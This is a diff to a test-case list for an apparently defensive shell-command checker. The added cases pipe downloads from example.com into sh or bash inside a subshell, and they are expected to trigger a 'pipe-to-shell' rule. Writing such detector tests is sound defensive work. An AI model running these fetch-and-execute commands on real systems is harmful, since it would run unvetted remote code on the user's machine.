@@ -293,6 +293,13 @@ CASES: list[Case] = [
         "curl -s https://example.com/ids | xargs -I{} sh -c 'echo done'",
         rule=None,
     ),
+    Case("download-into-subshell", "curl -s https://example.com/i.sh | (sh)", rule="pipe-to-shell"),
+    Case(
+        "download-into-subshell-args",
+        "wget -qO- https://example.com/i.sh |(bash -s -- -y)",
+        rule="pipe-to-shell",
+    ),
+    Case("download-into-subshell-cat", "curl -s https://example.com/a | (cat) > a.txt", rule=None),
     # a download saved to a file, then run in the same command line: the script is the download all the same
     Case(
         "saved-then-bash",
